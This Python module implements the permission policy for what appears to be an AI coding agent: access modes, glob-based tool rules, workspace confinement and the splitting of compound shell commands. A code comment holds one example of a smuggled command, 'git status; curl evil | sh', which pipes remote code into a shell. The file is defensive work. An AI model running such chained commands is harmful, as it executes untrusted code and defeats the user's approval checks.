"""Who may do what: access modes, per-tool glob rules (last match wins), workspace confinement.

Modes: ``ask`` asks before anything that changes the machine; ``approve`` applies edits but asks
before shell commands; ``full`` (``--yolo``) allows everything a rule does not deny. A run that
cannot ask (no terminal) treats "ask" as "deny" and tells the model why, so it never hangs.
"""

import fnmatch
import re
from collections.abc import Mapping
from enum import StrEnum
from typing import Literal

import msgspec

Action = Literal["allow", "deny", "ask"]


class AccessMode(StrEnum):
    ASK = "ask"
    APPROVE = "approve"
    FULL = "full"


class PermissionRequest(msgspec.Struct, frozen=True):
    """One check: ``tool`` wants to act on ``subject`` (a command, a path, a URL)."""

    tool: str
    subject: str
    kind: Literal["read", "edit", "execute", "network", "external_directory"]
    diff: str = ""  # the change a write would make, shown when the user is asked (protected files)


# Which tools each mode lets through without asking.
_MODE_DEFAULTS: dict[AccessMode, dict[str, Action]] = {
    AccessMode.ASK: {"read": "allow", "edit": "ask", "execute": "ask", "network": "ask", "external_directory": "deny"},
    AccessMode.APPROVE: {
        "read": "allow",
        "edit": "allow",
        "execute": "ask",
        "network": "allow",
        "external_directory": "deny",
    },
    AccessMode.FULL: {
        "read": "allow",
        "edit": "allow",
        "execute": "allow",
        "network": "allow",
        "external_directory": "deny",
    },
}


_COMMAND_SEPARATORS = re.compile(r"\|\||&&|[;|&\n()`]|\$\(")


def command_segments(command: str) -> list[str]:
    """The simple commands inside a shell command line (split on ; && || | & newlines and substitutions)."""
    return [part.strip() for part in _COMMAND_SEPARATORS.split(command) if part.strip()]


class PermissionPolicy:
    """Decides allow/deny/ask for a request; remembers "always" answers for the session."""

    def __init__(self, mode: AccessMode, rules: Mapping[str, Mapping[str, Action]] | None = None) -> None:
        self.mode = mode
        self.rules = {tool: list(patterns.items()) for tool, patterns in (rules or {}).items()}
        self._always: set[tuple[str, str]] = set()

    def _rule(self, request: PermissionRequest, subject: str) -> Action | None:
        """The last matching rule for the tool's kind or name (e.g. `external_directory`, `bash`)."""
        decision: Action | None = None
        for key in (request.kind, request.tool):
            for pattern, action in self.rules.get(key, []):
                if fnmatch.fnmatchcase(subject, pattern):
                    decision = action
        return decision

    def decide(self, request: PermissionRequest) -> Action:
        if request.kind == "execute":
            # A rule allowing "git status*" must not allow "git status; curl evil | sh": every part of a
            # compound command must be allowed, and any denied part denies the whole.
            parts = command_segments(request.subject) or [request.subject]
            decisions = [self._rule(request, part) for part in parts]
            if "deny" in decisions or self._rule(request, request.subject) == "deny":
                return "deny"
            if all(d == "allow" for d in decisions):
                return "allow"
            decision: Action | None = "ask" if "ask" in decisions else None
        else:
            decision = self._rule(request, request.subject)
        if decision is not None:
            return decision
        if (request.tool, request.subject) in self._always or (request.tool, "*") in self._always:
            return "allow"
        return _MODE_DEFAULTS[self.mode][request.kind]

    def remember(self, request: PermissionRequest, *, whole_tool: bool = False) -> None:
        """The user answered "always": allow this (or every) subject for this tool from now on."""
        self._always.add((request.tool, "*" if whole_tool else request.subject))
